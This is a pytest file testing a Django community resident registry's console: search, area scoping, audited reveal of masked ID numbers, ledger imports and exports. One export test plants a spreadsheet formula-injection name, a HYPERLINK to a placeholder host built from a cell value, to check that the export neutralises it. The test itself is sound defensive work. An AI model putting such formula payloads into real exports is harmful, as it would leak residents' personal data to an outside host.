"""The registry's console pages, through Django's test client."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from openpyxl import load_workbook

from shequtong.core import vault
from shequtong.core.choices import Role
from shequtong.core.models import AuditEntry
from shequtong.registry import selectors
from shequtong.registry.importing.persons import PersonImport
from shequtong.registry.models import Building, ImportJob, Person, PersonTag

from .factories import id_number, ledger_rows, name, person_row, write_csv

pytestmark = pytest.mark.django_db


def csv_upload(rows, name="台账.csv") -> SimpleUploadedFile:
    buffer = io.StringIO()
    import csv

    from .factories import HEADER

    writer = csv.writer(buffer)
    writer.writerow(HEADER)
    writer.writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode("utf-8-sig"), "text/csv")


def test_search_by_pinyin_initials_and_last_four(client, staff, ledger):
    client.force_login(staff)
    page = client.get("/console/registry/persons/", {"q": "zs"}).content.decode()
    assert "张三" in page and "李四" not in page
    page = client.get("/console/registry/persons/", {"q": "lisi"}).content.decode()
    assert "李四" in page and "张三" not in page
    last4 = id_number(3)[-4:]
    page = client.get("/console/registry/persons/", {"q": last4}).content.decode()
    assert "赵六" in page
    page = client.get("/console/registry/persons/", {"q": "13800000004"}).content.decode()
    assert "孙七" in page and "张三" not in page


@pytest.mark.parametrize(
    ("q", "expected"),
    [
        # Row n of the ledger: 杨家坪小区 (n mod 3 + 1)栋 1单元, door (n mod 6 + 1)0(n mod 2 + 1).
        ("杨家坪小区", 13),  # an estate's name alone (it once found nobody)
        ("杨家坪", 13),
        ("202", 2),  # a door: rows 1 and 7
        ("1203", 1),  # a four-digit door, not only the last four of an ID or phone
        ("2-1-202", 2),
        ("2－1－202室", 2),
        ("杨家坪小区2-1-202", 2),
        ("2栋1单元202", 2),
        ("2号楼1单元202室", 2),
        ("杨家坪小区2栋", 5),  # rows 1, 4, 7, 10 and the 1203 of 2栋
        ("3-1-202", 0),
        ("金沙苑", 0),
    ],
)
def test_search_finds_estates_and_doors_as_people_type_them(
    staff, ledger, tree, tmp_path, q, expected
):
    PersonImport(community=tree.comm_a1, actor=None).run(
        write_csv(tmp_path / "一户.csv", [person_row(40, 楼栋="2栋", 房号="1203")])
    )
    found = selectors.person_search(user=staff, q=q)
    assert found.count() == expected, list(found.values_list("name", "dwelling__number"))
    if q in ("2-1-202", "2栋1单元202"):
        assert sorted(found.values_list("name", flat=True)) == sorted(["李四", name(7)])


def test_search_is_scoped(client, user_with, tree, ledger):
    client.force_login(user_with(Role.COMMUNITY_STAFF, tree.comm_b1))
    page = client.get("/console/registry/persons/", {"q": "zs"}).content.decode()
    assert "张三" not in page and "没有找到居民" in page


def test_htmx_search_returns_only_the_results(client, staff, ledger):
    client.force_login(staff)
    response = client.get("/console/registry/persons/", {"q": "zs"}, HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert body.lstrip().startswith('<div id="results">') and "张三" in body


def test_person_file_masks_and_reveals_with_audit(client, staff, ledger):
    person = Person.objects.get(name="李四")
    client.force_login(staff)
    page = client.get(f"/console/registry/persons/{person.pk}/").content.decode()
    assert person.id_number not in page and person.id_number[-4:] in page
    assert "档案变更记录" in page and "台账导入建档" in page
    response = client.post(f"/console/registry/persons/{person.pk}/reveal/id_number/")
    assert person.id_number in response.content.decode()
    assert AuditEntry.objects.filter(action="pii.reveal", object_id=str(person.pk)).exists()


def test_grid_worker_cannot_reveal(client, user_with, tree, ledger):
    worker = user_with(Role.GRID_WORKER, tree.comm_a1)
    person = Person.objects.get(name="李四")
    client.force_login(worker)
    page = client.get(f"/console/registry/persons/{person.pk}/").content.decode()
    assert "reveal/id_number" not in page
    response = client.post(f"/console/registry/persons/{person.pk}/reveal/id_number/")
    assert response.status_code == 403


def test_moving_out_keeps_the_file(client, staff, ledger):
    person = Person.objects.get(name="李四")
    client.force_login(staff)
    client.post(
        f"/console/registry/persons/{person.pk}/end/", {"kind": "moved_out", "on": "2026-01-05"}
    )
    person.refresh_from_db()
    assert person.status == "moved_out"
    page = client.get("/console/registry/persons/", {"q": "lisi"}).content.decode()
    assert ">李四</a>" not in page
    page = client.get(
        "/console/registry/persons/", {"q": "lisi", "include_inactive": "on"}
    ).content.decode()
    assert ">李四</a>" in page
    detail = client.get(f"/console/registry/persons/{person.pk}/").content.decode()
    assert "迁出" in detail and "2026-01-05" in detail


def test_sensitive_tags_are_hidden_without_the_grant(client, staff, user_with, tree, ledger):
    person = Person.objects.get(name="李四")
    from shequtong.registry import services

    services.tag_add(
        actor=None, person=person, tag=PersonTag.objects.get(code="community_correction")
    )
    client.force_login(staff)
    page = client.get(f"/console/registry/persons/{person.pk}/").content.decode()
    assert "社区矫正" not in page
    client.force_login(user_with(Role.SUBDISTRICT_ADMIN, tree.sub_a))
    page = client.get(f"/console/registry/persons/{person.pk}/").content.decode()
    assert "社区矫正" in page


def test_building_map_shows_every_door(client, staff, ledger):
    building = Building.objects.get(number="1栋")
    client.force_login(staff)
    page = client.get(f"/console/registry/buildings/{building.pk}/").content.decode()
    for dwelling in building.dwellings.all():
        assert f"<strong>{dwelling.number}</strong>" in page
    assert "occupied" in page and "在住 4 人" in page


def test_upload_check_then_confirm(client, staff, tree):
    client.force_login(staff)
    rows = ledger_rows(6)
    rows[2] = person_row(2, 联系电话="12345")
    response = client.post(
        "/console/registry/imports/",
        {
            "community": tree.comm_a1.pk,
            "file": csv_upload(rows),
            "mode": "valid_rows",
            "create_places": "on",
        },
    )
    job = ImportJob.objects.get()
    assert response["Location"] == f"/console/registry/imports/{job.pk}/"
    page = client.get(response["Location"]).content.decode()
    assert job.status == "checked" and "待确认" in page
    assert '<div class="num" data-count="new">5</div>' in page
    assert "电话号码格式错误" in page and Person.objects.count() == 0
    client.post(f"/console/registry/imports/{job.pk}/confirm/")
    job.refresh_from_db()
    assert job.status == "done" and Person.objects.count() == 5
    download = client.get(f"/console/registry/imports/{job.pk}/rejected.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    values = list(sheet.values)
    assert values[0][-1] == "错误原因" and len(values) == 2
    assert values[1][0] == rows[2][0] and "联系电话" in values[1][-1]


def test_upload_rejects_a_pdf_and_a_foreign_community(client, staff, tree):
    client.force_login(staff)
    fake = SimpleUploadedFile("台账.xlsx", b"%PDF-1.4 not a sheet", "application/pdf")
    client.post(
        "/console/registry/imports/",
        {"community": tree.comm_a1.pk, "file": fake, "mode": "valid_rows"},
    )
    job = ImportJob.objects.get()
    page = client.get(f"/console/registry/imports/{job.pk}/").content.decode()
    assert "PDF" in page and "失败" in page
    response = client.post(
        "/console/registry/imports/",
        {"community": tree.comm_b1.pk, "file": csv_upload(ledger_rows(1)), "mode": "valid_rows"},
    )
    assert response.status_code == 200 and ImportJob.objects.count() == 1  # not a choice


def test_template_download_round_trips(client, staff, tree, tmp_path):
    client.force_login(staff)
    response = client.get("/console/registry/imports/template.xlsx")
    path = tmp_path / "模板.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    report = PersonImport(community=tree.comm_a1, actor=staff).run(path)
    assert report.counts["new"] == 1 and report.counts["rejected"] == 0


def xlsx_rows(response) -> list[tuple]:
    return list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)


def test_export_is_masked_scoped_and_audited_once(client, staff, ledger, user_with, tree):
    """Even a user who may reveal every row gets masked numbers from the plain export."""
    client.force_login(staff)
    rows = xlsx_rows(client.get("/console/registry/persons/", {"export": "xlsx"}))
    assert len(rows) == 13
    people = {p.name: p for p in ledger}
    for row in rows[1:]:
        person = people[row[0]]
        assert row[3] == vault.mask_id_number(person.id_number) and person.id_number not in row
        assert row[4] == (vault.mask_phone(person.phone) if person.phone else None)
    assert AuditEntry.objects.filter(action="person.export", actor=staff).count() == 1
    assert not AuditEntry.objects.filter(action="pii.export").exists()
    client.force_login(user_with(Role.GRID_WORKER, tree.comm_a1))
    assert client.get("/console/registry/persons/", {"export": "xlsx"}).status_code == 403


def test_a_full_export_needs_a_purpose_and_records_each_person(client, staff, ledger):
    client.force_login(staff)
    refused = client.post("/console/registry/persons/export/", {"purpose": "要"}, follow=True)
    assert "须写明用途" in refused.content.decode()
    assert not AuditEntry.objects.filter(action__startswith="pii.export").exists()

    response = client.post(
        "/console/registry/persons/export/", {"q": "zs", "purpose": "低保年审入户核对"}
    )
    rows = xlsx_rows(response)
    zhang = Person.objects.get(name="张三")
    assert rows[1:] and {r[0] for r in rows[1:]} == {"张三"}
    assert rows[1][3] == zhang.id_number
    entries = AuditEntry.objects.filter(action="pii.export")
    assert list(entries.values_list("object_id", "actor_id")) == [(str(zhang.pk), staff.pk)]
    assert entries.get().changes == {
        "fields": [None, ["id_number", "phone"]],
        "purpose": [None, "低保年审入户核对"],
    }
    summary = AuditEntry.objects.get(action="person.export_full")
    assert summary.changes["purpose"] == [None, "低保年审入户核对"]


def test_a_full_export_is_refused_without_the_reveal_grant(client, ledger, user_with, tree):
    # Grid workers may not export at all; auditors and departments hold no reveal on people.
    client.force_login(user_with(Role.GRID_WORKER, tree.comm_a1))
    response = client.post("/console/registry/persons/export/", {"purpose": "工作需要核对"})
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action="pii.export").exists()


def test_a_full_export_masks_the_rows_outside_the_reveal_grant(client, ledger, user_with, tree):
    """Offices reveal their own area only: a district admin's export is full, a community's
    staff elsewhere sees masked numbers."""
    admin = user_with(Role.DISTRICT_ADMIN, tree.district)
    client.force_login(admin)
    rows = xlsx_rows(
        client.post("/console/registry/persons/export/", {"purpose": "全区人口普查比对"})
    )
    assert len(rows) == 13 and all("*" not in r[3] for r in rows[1:])
    assert AuditEntry.objects.filter(action="pii.export").count() == 12


def test_the_person_export_neutralises_formulas(client, staff, ledger):
    Person.objects.filter(name="张三").update(name='=HYPERLINK("http://x"&A1,"查看")')
    client.force_login(staff)
    response = client.get("/console/registry/persons/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value.startswith("=")]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].quotePrefix


def test_a_corrupted_ciphertext_shows_unreadable_and_the_rest_carries_on(
    client, staff, ledger, caplog
):
    person = Person.objects.get(name="李四")
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE registry_person SET id_number = %s WHERE id = %s", ["demo$AAAA", person.pk]
        )
    client.force_login(staff)
    page = client.get(f"/console/registry/persons/{person.pk}/")
    assert page.status_code == 200 and "无法解密" in page.content.decode()
    rows = xlsx_rows(client.get("/console/registry/persons/", {"export": "xlsx"}))
    assert len(rows) == 13
    assert {r[3] for r in rows if r[0] == "李四"} == {vault.Unreadable.TEXT}
    assert "无法解密 registry.Person.id_number" in caplog.text and "AAAA" not in caplog.text
    # Saving the person again keeps the stored ciphertext, not the placeholder.
    loaded = Person.objects.get(pk=person.pk)
    loaded.note = "复核"
    loaded.save()
    with connection.cursor() as cursor:
        cursor.execute("SELECT id_number FROM registry_person WHERE id = %s", [person.pk])
        assert cursor.fetchone()[0] == "demo$AAAA"


def test_stats_count_the_community(client, staff, ledger):
    client.force_login(staff)
    page = client.get("/console/registry/stats/").content.decode()
    assert '<div class="num">12</div><div class="label">在住人口</div>' in page
    assert "stats-data" in page


def test_a_communitys_own_headers_are_mapped_once_and_remembered(client, staff, tree):
    from .factories import HEADER

    own = ["居民姓名" if h == "姓名" else "公民身份证" if h == "身份证号" else h for h in HEADER]
    own[own.index("居民姓名")] = "住户姓名"
    buffer = io.StringIO()
    import csv

    writer = csv.writer(buffer)
    writer.writerow(own)
    writer.writerows(ledger_rows(3))
    data = buffer.getvalue().encode("utf-8")
    client.force_login(staff)
    client.post(
        "/console/registry/imports/",
        {
            "community": tree.comm_a1.pk,
            "file": SimpleUploadedFile("x.csv", data),
            "mode": "valid_rows",
            "create_places": "on",
        },
    )
    job = ImportJob.objects.get()
    page = client.get(f"/console/registry/imports/{job.pk}/").content.decode()
    assert "缺少必需列：姓名、身份证号" in page and "“住户姓名”" in page
    columns = {
        f"column_{i}": {"住户姓名": "name", "公民身份证": "id_number"}.get(h, "")
        for i, h in enumerate(job.unknown_headers)
    }
    client.post(f"/console/registry/imports/{job.pk}/columns/", columns)
    job.refresh_from_db()
    assert job.status == "checked" and job.counts["new"] == 3, (job.counts, job.rejected[:2])
    # The next ledger in the community's format is understood at once.
    client.post(
        "/console/registry/imports/",
        {
            "community": tree.comm_a1.pk,
            "file": SimpleUploadedFile("y.csv", data),
            "mode": "valid_rows",
            "create_places": "on",
        },
    )
    assert ImportJob.objects.latest("pk").status == "checked"


def test_estate_page_lists_its_buildings_in_scope(client, staff, ledger):
    from shequtong.registry.models import Estate

    estate = Estate.objects.get()
    client.force_login(staff)
    assert estate.name in client.get("/console/registry/estates/").content.decode()
    page = client.get(f"/console/registry/estates/{estate.pk}/").content.decode()
    assert "1栋" in page and "3栋" in page and "12 人" in page


def test_directory_lists_organizations_facilities_and_vehicles_in_scope(
    client, staff, tree, user_with
):
    from shequtong.registry.models import Vehicle

    Vehicle.objects.create(
        plate="川A12345", kind="car", area=tree.grid_a1a, area_path=tree.grid_a1a.path
    )
    Vehicle.objects.create(
        plate="川B54321", kind="car", area=tree.grid_b1a, area_path=tree.grid_b1a.path
    )
    client.force_login(staff)
    page = client.get("/console/registry/directory/vehicles/").content.decode()
    assert "川A12345" in page and "川B54321" not in page
    assert "暂无记录" in client.get("/console/registry/directory/").content.decode()
    assert client.get("/console/registry/directory/nothing/").status_code == 404


def test_upload_over_the_limit_is_refused_with_the_size(client, staff, tree, settings):
    settings.SHEQUTONG_UPLOAD_MAX_MB = 1
    big = SimpleUploadedFile("大台账.csv", b"x" * (2 * 1024 * 1024), "text/csv")
    client.force_login(staff)
    response = client.post(
        "/console/registry/imports/",
        {"community": tree.comm_a1.pk, "file": big, "mode": "valid_rows"},
    )
    page = response.content.decode()
    assert response.status_code == 200 and "超过上限 1 MB" in page
    assert not ImportJob.objects.exists()


def test_directory_export_is_scoped_and_audited(client, staff, tree):
    from shequtong.registry.models import Vehicle

    Vehicle.objects.create(
        plate="川A12345", kind="car", area=tree.grid_a1a, area_path=tree.grid_a1a.path
    )
    Vehicle.objects.create(
        plate="川B54321", kind="car", area=tree.grid_b1a, area_path=tree.grid_b1a.path
    )
    client.force_login(staff)
    response = client.get("/console/registry/directory/vehicles/", {"export": "xlsx"})
    rows = list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)
    assert rows[0][0] == "号牌" and [r[0] for r in rows[1:]] == ["川A12345"]
    assert AuditEntry.objects.filter(action="vehicle.export", actor=staff).exists()


def test_the_directory_export_keeps_a_formula_name_as_text(client, staff, tree):
    from shequtong.registry.models import Facility

    Facility.objects.create(
        name="=1+2", kind="service_center", area=tree.grid_a1a, area_path=tree.grid_a1a.path
    )
    client.force_login(staff)
    response = client.get("/console/registry/directory/facilities/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+2", "s", True)


def test_a_binary_file_named_csv_fails_in_chinese_not_resumable(client, staff, tree):
    client.force_login(staff)
    noise = bytes(range(256)) * 40  # NUL bytes and every other byte, no header
    client.post(
        "/console/registry/imports/",
        {
            "community": tree.comm_a1.pk,
            "file": SimpleUploadedFile("台账.csv", noise, "text/csv"),
            "mode": "valid_rows",
        },
    )
    job = ImportJob.objects.get()
    assert job.status == "failed"
    assert job.error.startswith("文件编码混杂：第 1 行附近既不是 UTF-8 也不是 GBK")
    assert "UnboundLocalError" not in job.error and "继续" not in job.error
